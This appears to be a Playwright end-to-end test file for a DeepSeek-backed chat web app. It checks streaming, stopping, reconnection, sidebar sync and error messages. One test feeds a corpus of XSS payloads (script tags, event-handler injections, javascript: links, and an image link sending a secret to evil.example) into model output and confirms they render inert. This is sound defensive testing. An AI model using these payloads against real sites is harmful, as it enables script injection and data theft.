"""The chat page in a real browser (Debian's chromium), against real daphne, Redis and the fake DeepSeek."""

from __future__ import annotations

import re

import pytest

from tests.fake_upstream import answer_text
from tests.live import open_new_conversation, sign_up_in_browser

pytestmark = pytest.mark.e2e

playwright_sync = pytest.importorskip("playwright.sync_api")
expect = playwright_sync.expect


def status_is(page, status: str, *, index: int = 0, timeout: float = 10000) -> None:
    """Wait until a reply shows this status (no JS evaluation: the page's CSP forbids eval)."""
    expect(page.locator(".msg.assistant").nth(index)).to_have_attribute("data-status", status, timeout=timeout)


def test_a_new_user_chats_and_two_tabs_watch_the_reply_stream(browser, live_site):
    base_url = live_site.start()
    first_tab_context = browser.new_context()
    page = first_tab_context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    sign_up_in_browser(page, base_url, "browser-user")
    open_new_conversation(page)
    conversation_url = page.url

    # A second tab of the same user, on the same conversation.
    other = browser.new_context(storage_state=first_tab_context.storage_state()).new_page()
    other.goto(conversation_url)
    other.wait_for_selector("#connection[data-level=ok]")

    # Shift+Enter adds a line; Enter sends.
    page.fill("#composer-input", "Hello")
    page.press("#composer-input", "Shift+Enter")
    page.type("#composer-input", "there [[fake tokens=150 delay=0.03]]")
    assert page.input_value("#composer-input") == "Hello\nthere [[fake tokens=150 delay=0.03]]"
    page.press("#composer-input", "Enter")

    # While it streams: the Stop button shows in both tabs and the text grows.
    for tab in (page, other):
        tab.wait_for_selector("#stop:not([hidden])")
        tab.wait_for_selector(".msg.assistant .content:not(:empty)")
    expected = answer_text(150).rstrip()
    for tab in (page, other):
        status_is(tab, "complete", timeout=15000)
        assert tab.inner_text(".msg.assistant .content").strip() == expected
        assert tab.inner_text(".msg.user .content") == "Hello\nthere [[fake tokens=150 delay=0.03]]"
        assert tab.is_hidden("#stop")
    assert page.input_value("#composer-input") == ""
    # The sidebar got the automatic title in both tabs.
    for tab in (page, other):
        tab.wait_for_selector("#conversation-list li.active >> text=Hello")
    assert dialogs == []


def test_stop_in_one_tab_ends_the_reply_in_the_other(browser, live_site):
    base_url = live_site.start()
    context = browser.new_context()
    page = context.new_page()
    sign_up_in_browser(page, base_url, "stopper")
    open_new_conversation(page)
    other = browser.new_context(storage_state=context.storage_state()).new_page()
    other.goto(page.url)
    other.wait_for_selector("#connection[data-level=ok]")
    page.fill("#composer-input", "long one [[fake tokens=2000 delay=0.01]]")
    page.press("#composer-input", "Enter")
    other.wait_for_selector("#stop:not([hidden])")
    other.click("#stop")
    for tab in (page, other):
        status_is(tab, "stopped")
        assert tab.is_hidden("#stop")
    assert page.inner_text(".msg.assistant .content") == other.inner_text(".msg.assistant .content")


XSS_CORPUS = "\n\n".join(
    [
        "<script>alert('script')</script>",
        '<img src="http://evil.example/x.png" onerror="alert(\'img\')">',
        "[click me](javascript:alert('link'))",
        "<a href=\"javascript:alert('a')\">raw link</a>",
        "<iframe srcdoc=\"<script>alert('iframe')</script>\"></iframe>",
        "![leak](http://evil.example/leak?secret=42)",
        "<b onmouseover=\"alert('b')\">bold</b> <svg onload=\"alert('svg')\"></svg> <style>body{display:none}</style>",
        '<details open ontoggle="alert(\'details\')">x</details> <form action="http://evil.example"><button>go</button></form>',
        "```html\n<script>alert('code')</script>\n```",
    ]
)


def _watch(page) -> tuple[list[str], list[str]]:
    """Dialogs opened, and requests to any host but this site's, from now on."""
    dialogs: list[str] = []
    foreign: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on(
        "request", lambda request: foreign.append(request.url) if "127.0.0.1" not in request.url.split("/")[2] else None
    )
    return dialogs, foreign


def _ask(page, text: str) -> None:
    page.fill("#composer-input", text)
    page.press("#composer-input", "Enter")


def test_an_xss_corpus_in_model_output_renders_inert(browser, live_site):
    base_url = live_site.start()
    page = browser.new_context().new_page()
    dialogs, foreign = _watch(page)
    sign_up_in_browser(page, base_url, "xss-check")
    open_new_conversation(page)
    _ask(page, f"{XSS_CORPUS} [[fake echo]]")
    status_is(page, "complete")
    reply = page.locator(".msg.assistant .content")
    assert reply.locator("script, iframe, img, svg, style, form, button:not(.copy-code), details").count() == 0
    for link in reply.locator("a").all():
        href = link.get_attribute("href")
        assert href is None or href.startswith(("http://", "https://")), href
    text = reply.inner_text()
    assert "<script>alert('script')</script>" in text  # shown as the text it is
    assert "[image: leak]" in text
    assert page.inner_text(".msg.assistant .code-bar").startswith("html")
    reply.locator("b, a").first.hover()
    page.wait_for_timeout(300)
    assert dialogs == [] and foreign == []
    assert "script-src 'self'" in page.evaluate(
        "() => fetch(location.href).then(r => r.headers.get('content-security-policy'))"
    )


def test_replies_render_markdown_progressively_with_highlighted_copyable_code(browser, live_site):
    base_url = live_site.start()
    context = browser.new_context(permissions=["clipboard-read", "clipboard-write"])
    page = context.new_page()
    sign_up_in_browser(page, base_url, "markdown")
    open_new_conversation(page)
    answer = (
        "**Bold** start.\n\n| lang | year |\n|---|---|\n| Python | 1991 |\n\n- one\n- two\n\n"
        "```python\ndef greet(name):\n    return f'hi {name}'\n```\n\n" + "more words " * 60
    )
    _ask(page, f"{answer} [[fake echo delay=0.01]]")
    # Rendered while it streams, not only at the end.
    page.wait_for_selector(".msg.assistant[data-status=streaming] .content strong")
    status_is(page, "complete")
    reply = page.locator(".msg.assistant .content")
    assert reply.locator("th").all_inner_texts() == ["lang", "year"]
    assert reply.locator("li").count() == 2
    assert page.inner_text(".code-bar span") == "python"
    assert reply.locator("code.hljs .hljs-keyword").first.inner_text() == "def"
    page.click(".copy-code")
    assert page.evaluate("navigator.clipboard.readText()") == "def greet(name):\n    return f'hi {name}'\n"


def test_the_page_reconnects_after_a_server_restart_and_resyncs_without_doubling(browser, live_site):
    base_url = live_site.start()  # the default lease: the restarted process sees its predecessor is dead
    page = browser.new_context().new_page()
    sign_up_in_browser(page, base_url, "restarter")
    open_new_conversation(page)
    page.fill("#composer-input", "first [[fake tokens=20]]")
    page.press("#composer-input", "Enter")
    status_is(page, "complete")
    page.fill("#composer-input", "second [[fake tokens=3000 delay=0.01]]")
    page.press("#composer-input", "Enter")
    expect(page.locator(".msg.assistant").nth(1)).to_have_text(re.compile(".{40}", re.S))

    port = live_site.kill(0)  # the server dies mid-reply
    page.wait_for_selector("#connection[data-level=bad]")
    live_site.start(port=port)
    page.wait_for_selector("#connection[data-level=ok]", timeout=20000)
    # The reply whose writer died is closed as failed, its text kept, shown once.
    status_is(page, "failed", index=1, timeout=20000)
    assert page.locator(".msg").count() == 4
    stored = page.evaluate("fetch(location.pathname.replace('/c/', '/api/conversations/')).then((r) => r.json())")
    shown = page.locator(".msg.assistant .content").all_inner_texts()
    assert [m["content"].strip() for m in stored["messages"] if m["role"] == "assistant"] == [s.strip() for s in shown]
    assert stored["messages"][-1]["status"] == "failed"
    assert page.locator(".msg.assistant .error").inner_text()


API_CALL = """async ([method, path, body]) => {
  const token = document.cookie.match(/csrftoken=([^;]+)/)[1];
  const response = await fetch(path, {method, headers: {"Content-Type": "application/json", "X-CSRFToken": token},
                                      body: body ? JSON.stringify(body) : undefined});
  return response.status === 204 ? null : response.json();
}"""


def test_the_sidebar_follows_the_users_other_devices(browser, live_site):
    base_url = live_site.start()
    laptop_context = browser.new_context()
    laptop = laptop_context.new_page()
    sign_up_in_browser(laptop, base_url, "many-devices")
    open_new_conversation(laptop)
    phone = browser.new_context(storage_state=laptop_context.storage_state()).new_page()
    phone.goto(base_url)  # the home page: no conversation open
    phone.wait_for_selector("#conversation-list li")
    phone.wait_for_timeout(300)  # let the sidebar socket connect

    created = laptop.evaluate(API_CALL, ["POST", "/api/conversations/", {"title": "Holiday plans"}])
    for device in (phone, laptop):
        device.wait_for_selector(f"#conversation-list li[data-id='{created['id']}'] >> text=Holiday plans")
    laptop.evaluate(API_CALL, ["PATCH", f"/api/conversations/{created['id']}/", {"title": "Trip to Lisbon"}])
    for device in (phone, laptop):
        device.wait_for_selector(f"#conversation-list li[data-id='{created['id']}'] >> text=Trip to Lisbon")
    laptop.evaluate(API_CALL, ["DELETE", f"/api/conversations/{created['id']}/", None])
    for device in (phone, laptop):
        device.wait_for_selector(f"#conversation-list li[data-id='{created['id']}']", state="detached")


def test_the_page_says_what_went_wrong_and_keeps_what_was_written(browser, live_site):
    live_site.env["DEEPSEEK_STREAM_IDLE_TIMEOUT"] = "1"
    base_url = live_site.start()
    page = browser.new_context().new_page()
    sign_up_in_browser(page, base_url, "unlucky")
    open_new_conversation(page)

    def ask(text: str, index: int) -> None:
        page.fill("#composer-input", text)
        page.press("#composer-input", "Enter")
        page.wait_for_selector(f".msg.assistant >> nth={index}")

    def finished(index: int) -> None:
        expect(page.locator(".msg.assistant").nth(index)).not_to_have_attribute(
            "data-status", "streaming", timeout=20000
        )

    # Queued at DeepSeek: the page says it is waiting, then the reply comes.
    ask("queued [[fake queue=1.5 tokens=3]]", 0)
    page.wait_for_selector(".msg.assistant >> nth=0 >> text=waiting for DeepSeek…")
    finished(0)
    assert page.inner_text(".msg.assistant >> nth=0 >> .content").strip() == answer_text(3).strip()
    page.wait_for_selector(".msg.assistant >> nth=0 >> .meta >> text=/\\d+ in · \\d+ out/")
    page.wait_for_selector("#usage-summary >> text=/Your usage: \\d+ tokens today/")
    page.wait_for_selector("#conversation-usage >> text=/tokens here/")

    # A bad key: one plain sentence.
    ask("bad key [[fake fail=401x1]]", 1)
    finished(1)
    assert "DeepSeek refused the API key" in page.inner_text(".msg.assistant >> nth=1 >> .error")

    # DeepSeek goes silent mid-reply (keep-alives only): the text so far stays, with the reason.
    ask("stall [[fake tokens=50 keepalive_after=9]]", 2)
    finished(2)
    assert page.inner_text(".msg.assistant >> nth=2 >> .content").strip() == answer_text(8).strip()
    assert "DeepSeek stopped responding" in page.inner_text(".msg.assistant >> nth=2 >> .error")

    # Cut short by the length limit: kept, and said.
    ask("long [[fake tokens=5 finish=length]]", 3)
    finished(3)
    assert "maximum length" in page.inner_text(".msg.assistant >> nth=3 >> .reply-notice")

    # After a reload the page shows the same.
    page.reload()
    page.wait_for_selector("#connection[data-level=ok]")
    assert page.inner_text(".msg.assistant >> nth=2 >> .content").strip() == answer_text(8).strip()
    assert "DeepSeek stopped responding" in page.inner_text(".msg.assistant >> nth=2 >> .error")
